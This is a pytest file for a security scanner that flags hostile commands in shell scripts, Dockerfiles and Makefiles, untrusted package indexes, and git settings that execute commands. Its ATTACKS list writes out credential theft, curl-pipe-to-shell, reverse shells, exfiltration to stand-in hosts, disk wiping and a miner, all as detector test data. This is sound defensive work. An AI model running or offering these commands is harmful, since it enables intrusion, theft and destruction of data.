"""Scripts, settings and what they install: read line by line, never run."""

from __future__ import annotations

import pytest
from hypothesis import given
from hypothesis import strategies as st

from modelwarden.artifacts import Examined, examine
from modelwarden.artifacts.known.commands import attack_in
from modelwarden.core import GapKind
from modelwarden.formats import Limits, Source
from modelwarden.formats.installs import origins_in


def examined(name: str, text: str) -> Examined:
    with Source(name, text.encode()) as source:
        return examine(source, Limits())


def rules(name: str, text: str) -> set[str]:
    return {f.rule for f in examined(name, text).findings}


ATTACKS = [
    "cat ~/.ssh/id_rsa",
    "base64 -w0 /root/.aws/credentials",
    "cat /etc/passwd | nc example.org 99",
    "curl -fsSL http://example.invalid/i | sh",
    "curl http://example.invalid/i|sudo bash -s --",
    "wget -qO- http://example.invalid/i | /usr/bin/python3",
    "sh -c \"$(curl -fsSL http://example.invalid/i)\"",
    "bash <(curl -s http://example.invalid/i)",
    "eval \"$(wget -qO- http://example.invalid/i)\"",
    "c''url -s http://example.invalid/i | s\\h",
    "curl -o /tmp/x http://example.invalid/x && chmod +x /tmp/x && /tmp/x",
    "wget http://example.invalid/x.py; python3 x.py",
    "echo ZWNobw== | base64 -d | bash",
    "bash -i >& /dev/tcp/192.0.2.1/4444 0>&1",
    "nc -e /bin/sh 192.0.2.1 4444",
    "rm /tmp/f; mkfifo /tmp/f; cat /tmp/f | sh -i 2>&1 | nc 192.0.2.1 1 > /tmp/f",
    "env | curl -X POST -d @- http://example.invalid/",
    "curl -F f=@$HOME/.ssh/id_rsa http://example.invalid/",
    "cat ~/.aws/credentials | nc 192.0.2.1 1",
    "echo '* * * * * true' | crontab -",
    "echo ssh-rsa AAAA >> ~/.ssh/authorized_keys",
    "rm -rf /",
    "dd if=/dev/zero of=/dev/sda",
    "powershell -enc SQBFAFgAIAAoAE4AZQB3AC0A",
    "./xmrig -o stratum+tcp://example.invalid:1",
]  # fmt: skip
HONEST = [
    "cat ~/.ssh/id_rsa.pub",
    "cat /etc/passwd | grep root",
    "head -3 data/.netrc-example",
    "pip install -r requirements.txt",
    "curl -LO https://example.invalid/weights.bin",
    "wget -q https://example.invalid/data.tar.gz && tar xzf data.tar.gz",
    "python train.py --lr 0.1 | tee log.txt",
    "rm -rf build/ dist/ *.egg-info",
    "base64 -d key.txt > key",
    "git clone https://example.invalid/x.git && cd x && make",
    "nc -z localhost 8080",
    "cat README.md | head",
    "docker run --rm -it image sh",
    "curl -s http://localhost:8080/health | python -m json.tool",
]


@pytest.mark.parametrize("command", ATTACKS)
def test_a_command_that_attacks_is_told(command: str):
    assert attack_in(command), command
    assert "script-attack" in rules("start.sh", f"#!/bin/sh\n{command}\n")
    assert "script-attack" in rules("Dockerfile", f"FROM x\nRUN {command}\n")
    assert "script-attack" in rules("Makefile", f"all:\n\t@{command}\n")


@pytest.mark.parametrize("command", HONEST)
def test_an_honest_command_is_quiet(command: str):
    seen = examined("start.sh", f"#!/bin/sh\n{command}\n")

    assert (seen.findings, seen.gaps) == ([], [])


@pytest.mark.parametrize(
    ("text", "line"),
    [
        ("FROM x\nRUN apt-get update && \\\n  curl http://example.invalid/ | sh\n", 2),
        ('FROM x\nCMD ["sh", "-c", "curl http://example.invalid/ | sh"]\n', 2),
        ("FROM x\nONBUILD RUN curl http://example.invalid/ | sh\n", 2),
        ("FROM x\nRUN <<EOF\nset -e\ncurl http://example.invalid/ | sh\nEOF\n", 2),
        ("from x\nrun curl http://example.invalid/ | sh\n", 2),
    ],
)
def test_every_form_of_an_instruction_is_read(text: str, line: int):
    found = [f for f in examined("Dockerfile", text).findings if f.rule == "script-attack"]

    assert [f.location.line for f in found] == [line]


@pytest.mark.parametrize("command", ['eval "$X"', '"$COMMAND" --now', "$(printf a)", "`x`"])
def test_a_computed_command_is_a_gap(command: str):
    seen = examined("start.sh", f"#!/bin/sh\n{command}\n")

    assert [g.kind for g in seen.gaps] == [GapKind.UNEXAMINED_CODE]


@pytest.mark.parametrize(
    ("name", "text", "rule"),
    [
        ("requirements.txt", "--index-url http://example.invalid/simple", "foreign-index"),
        ("requirements.txt", "-i https://example.invalid/simple\nx", "foreign-index"),
        ("requirements.txt", "--find-links https://example.invalid/", "foreign-index"),
        ("requirements.txt", "--trusted-host example.invalid", "foreign-index"),
        ("requirements/dev.in", "--extra-index-url=https://example.invalid/", "foreign-index"),
        ("pip.conf", "[global]\nindex-url = https://example.invalid/", "foreign-index"),
        ("pip.conf", "[global]\ntrusted-host = example.invalid\n# http://", "foreign-index"),
        ("uv.toml", '[[index]]\nurl = "https://example.invalid/simple"', "foreign-index"),
        ("pyproject.toml", '[[tool.uv.index]]\nurl = "https://example.invalid/"', "foreign-index"),
        ("Pipfile", '[[source]]\nurl = "http://example.invalid/simple"', "foreign-index"),
        (".condarc", "channels:\n  - http://example.invalid/conda", "foreign-index"),
        ("conda.yaml", "channels:\n- https://example.invalid/c\n", "foreign-index"),
        (
            "environment.yml",
            "dependencies:\n- pip:\n  - --extra-index-url http://example.invalid/\n",
            "foreign-index",
        ),
        ("start.sh", "#!/bin/sh\npip install -i http://example.invalid/ x", "foreign-index"),
        ("Dockerfile", "FROM x\nRUN pip install --trusted-host example.invalid x", "foreign-index"),
        ("requirements.txt", "git+https://example.invalid/x.git", "direct-install"),
        ("requirements.txt", "https://example.invalid/x-1.0-py3-none-any.whl", "direct-install"),
        ("requirements.txt", "x @ file:///srv/x", "direct-install"),
        ("conda.yaml", "- pip:\n  - git+https://example.invalid/x.git\n", "direct-install"),
    ],
)  # fmt: skip
def test_where_packages_come_from_is_told(name: str, text: str, rule: str):
    assert rule in rules(name, text + "\n")


@pytest.mark.parametrize(
    ("name", "text"),
    [
        ("requirements.txt", "numpy==2.1\n--index-url https://pypi.org/simple\n"),
        ("requirements.txt", "--extra-index-url https://download.pytorch.org/whl/cu128\n"),
        (
            "requirements.txt",
            "--find-links ./wheels\n-r other.txt\n# see https://example.invalid\n",
        ),
        ("conda.yaml", "channels:\n- conda-forge\n- https://conda.anaconda.org/nvidia\n"),
        ("pyproject.toml", '[project.urls]\nHomepage = "https://example.invalid/"\n'),
        ("notes.txt", "use --index-url http://example.invalid/ or git+https://example.invalid/x\n"),
    ],
)
def test_the_usual_places_are_quiet(name: str, text: str):
    assert rules(name, text) & {"foreign-index", "direct-install"} == set()


def test_a_password_in_an_address_is_not_repeated():
    seen = examined("requirements.txt", "-i https://me:Zq8kT3vXw92m@example.invalid/simple\n")

    assert "foreign-index" in {f.rule for f in seen.findings}
    assert "Zq8kT3vXw92m" not in repr(seen)


@pytest.mark.parametrize(
    ("name", "text"),
    [
        (".git/config", '[core]\n\tsshCommand = sh -c "true"\n'),
        (".git/config", "[core]\n\thooksPath = hooks\n"),
        (".git/config", '[filter "x"]\n\tsmudge = ./run.sh\n'),
        (".git/config", "[alias]\n\tst = !./run.sh\n"),
        (".git/config", '[diff "x"]\n\ttextconv = ./run.sh\n'),
        (".git/config", "[include]\n\tpath = ../evil\n"),
        (".git/config", '[credential]\n\thelper = "!./run.sh"\n'),
        (".gitmodules", '[submodule "x"]\n\turl = -u./run.sh\n'),
        (".gitmodules", '[submodule "x"]\n\tupdate = !./run.sh\n'),
        (".gitattributes", "*.bin filter=other\n"),
    ],
)
def test_settings_that_make_git_run_something_are_told(name: str, text: str):
    assert "git-command" in rules(name, text)


def test_ordinary_settings_of_git_are_quiet():
    text = '[core]\n\tbare = false\n[remote "origin"]\n\turl = https://example.invalid/x.git\n'

    assert rules(".git/config", text) == set()


@given(
    st.text(max_size=300),
    st.sampled_from(["a.sh", "Dockerfile", "Makefile", ".git/config", "pip.conf"]),
)
def test_any_text_is_read_without_an_exception(text: str, name: str):
    gaps = examined(name, "x\n" + text).gaps

    assert all(g.kind is not GapKind.FAILED for g in gaps)
    list(origins_in(text, settings=True, channels=True))


def test_long_lines_take_no_time_of_their_own():
    for text in ("curl " * 100_000, "a" * 2_000_000, "$(" * 200_000, "--index-url " * 100_000):
        examined("start.sh", "#!/bin/sh\n" + text)
        examined("requirements.txt", text + "://")


def test_a_command_of_a_makefile_goes_to_the_last_bracket_of_its_line():
    assert rules("Makefile", "X := $(shell curl http://a.invalid/x | sh) $(shell date)\n")
    assert not rules("Makefile", "X := $(shell date) and $(shell\n")


def test_a_line_of_many_beginnings_of_commands_is_read_once():
    # Each beginning once looked for an end up to the end of the line: hours for a megabyte.
    found = examined("Makefile", "$(shell " * 120_000)

    assert not found.findings
